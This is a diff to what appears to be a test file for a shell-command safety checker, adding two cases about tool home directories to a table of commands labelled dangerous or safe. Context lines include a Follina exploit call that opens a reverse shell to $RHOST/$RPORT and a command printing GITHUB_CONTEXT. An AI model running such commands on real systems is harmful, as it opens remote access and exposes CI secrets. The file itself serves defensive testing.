@@ -4003,6 +4003,9 @@ describe('the fifteen sets held out last stop and the hundred-and-sixtieth and -
     ['dkms status', false],
     ['printf \'%s\' "$GITHUB_CONTEXT" | python -m json.tool', true, 'GITHUB_CONTEXT'],
     ['cat urllist | unfurl paths', false],
+    // The tools' own homes a command prints lie in the home; going there reads nothing.
+    ['git clone https://github.com/pyenv/pyenv-virtualenv.git $(pyenv root)/plugins/pyenv-virtualenv', true, 'home directory'],
+    ['cd $(go env GOPATH)/src/github.com/gomods', false],
     ['python3 follina.py -c "bash -c \'exec bash -i &>/dev/tcp/$RHOST/$RPORT <&1\'"', true, 'reverse shell'],
   ] as [string, boolean, string?][])('%s → dangerous %s', (cmd, dangerous, reason) => {
     const r = checkCommand(cmd, WS);
